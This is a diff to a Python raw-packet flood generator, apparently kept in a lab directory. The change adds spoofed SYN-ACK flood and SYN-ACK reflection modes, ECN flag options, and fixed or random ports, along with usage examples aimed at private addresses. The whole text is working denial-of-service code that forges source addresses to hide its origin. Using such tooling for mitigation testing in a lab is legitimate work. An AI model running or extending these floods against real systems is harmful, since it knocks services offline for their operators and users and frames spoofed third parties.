@@ -7,6 +7,7 @@ echo floods from many spoofed sources, over IPv4 and IPv6.
 
   python3 lab/rawflood.py syn DST --port P --count N --pps R --spoof CIDR
       [--burst K] [--ttl T] [--win W] [--payload B] [--linux-options]
+      [--flags S|SA|SEC] [--from-port F]
   python3 lab/rawflood.py reflect DST --sport S --count N --pps R --spoof CIDR
       [--burst K] [--size A-B] [--ttl T] [--dport P]
   python3 lab/rawflood.py udp DST --count N --pps R --spoof CIDR [--size A-B]
@@ -17,6 +18,8 @@ echo floods from many spoofed sources, over IPv4 and IPv6.
 Examples:
   python3 lab/rawflood.py syn 10.199.0.10 --port 80 --count 2000 --pps 1000 \
       --spoof 10.128.0.0/11 --linux-options        # a SYN per source, spread
+  python3 lab/rawflood.py syn 10.199.0.10 --port 0 --from-port 443 --flags SA \
+      --count 2000 --pps 1000 --spoof 10.128.0.0/11  # SYN-ACK reflection
   python3 lab/rawflood.py icmp fd99::10 --count 500 --pps 500 \
       --spoof fd99:15::/48 --burst 20 --dev eth0 --dst-mac 02:00:00:00:00:01
   python3 lab/rawflood.py icmp fd99::10 --count 50 --pps 50 \
@@ -24,7 +27,12 @@ Examples:
 
 syn: TCP SYNs to DST:P, each from a random address of --spoof and a random
 source port (a new flow each), optionally with MSS, SACK, timestamp and
-window-scale options as Linux sends them, and B bytes of payload.
+window-scale options as Linux sends them, and B bytes of payload. --flags
+sets the SYN's other flags: SA a SYN-ACK (a SYN-ACK flood; with --from-port
+80 or 443 and --port 0, the replies of web servers that a spoofed SYN flood
+of the victim's address reached: SYN-ACK reflection), SEC ECN's ECE and
+CWR; --from-port F, one source port for every packet (0: a random one
+each); --port 0, a random destination port each.
 reflect: UDP datagrams from source port S (53 DNS, 123 NTP, 161 SNMP, 1900
 SSDP, 11211 memcached, ...) of A..B bytes, to random destination ports (or
 port P), as the replies that reflectors send to a spoofed victim.
@@ -94,8 +102,10 @@ def syn(a, rng, src, dst):
                 struct.pack("!BBB", 3, 3, 7))
     off = (20 + len(opts)) // 4
     payload = bytes(rng.getrandbits(8) for _ in range(a.payload))
-    seg = struct.pack("!HHIIBBHHH", rng.randint(1024, 65535), a.port, rng.getrandbits(32), 0,
-                      off << 4, 0x02, a.win, 0, 0) + opts + payload
+    ack = rng.getrandbits(32) if a.flags & 0x10 else 0
+    seg = struct.pack("!HHIIBBHHH", a.from_port or rng.randint(1024, 65535),
+                      a.port or rng.randint(1, 65535), rng.getrandbits(32), ack,
+                      off << 4, a.flags, a.win, 0, 0) + opts + payload
     seg = seg[:16] + struct.pack("!H", l4sum(src, dst, 6, seg)) + seg[18:]
     return ip_pkt(src, dst, 6, seg, a.ttl, rng)
 
@@ -171,6 +181,16 @@ def sources(net, rng, burst):
             yield a
 
 
+# --flags: the letters of the TCP flags a syn packet carries (SYN always)
+TCP_FLAGS = {"S": 0x02, "A": 0x10, "E": 0x40, "C": 0x80}
+
+
+def tcp_flags(text):
+    if "S" not in text or set(text) - set(TCP_FLAGS):
+        raise argparse.ArgumentTypeError(f"'{text}': letters of {''.join(TCP_FLAGS)}, S among them")
+    return sum(TCP_FLAGS[c] for c in set(text))
+
+
 def span(text):
     lo, _, hi = text.partition("-")
     return int(lo), int(hi or lo)
@@ -186,7 +206,11 @@ def main():
     ap.add_argument("--pps", type=int, required=True)
     ap.add_argument("--spoof", required=True,
                     help="source prefix, every packet from a random address of it (one address: a /32)")
-    ap.add_argument("--port", type=int, default=80)
+    ap.add_argument("--port", type=int, default=80, help="syn: 0 for random")
+    ap.add_argument("--from-port", type=int, default=0,
+                    help="syn: one source port for every packet (default 0: random)")
+    ap.add_argument("--flags", type=tcp_flags, default=0x02,
+                    help="syn: S (default), SA (SYN-ACK), SEC (SYN with ECE and CWR), ...")
     ap.add_argument("--sport", type=int, default=53)
     ap.add_argument("--dport", type=int, default=0, help="reflect: 0 for random")
     ap.add_argument("--same-id", action="store_true", help="icmp: one id for every packet")
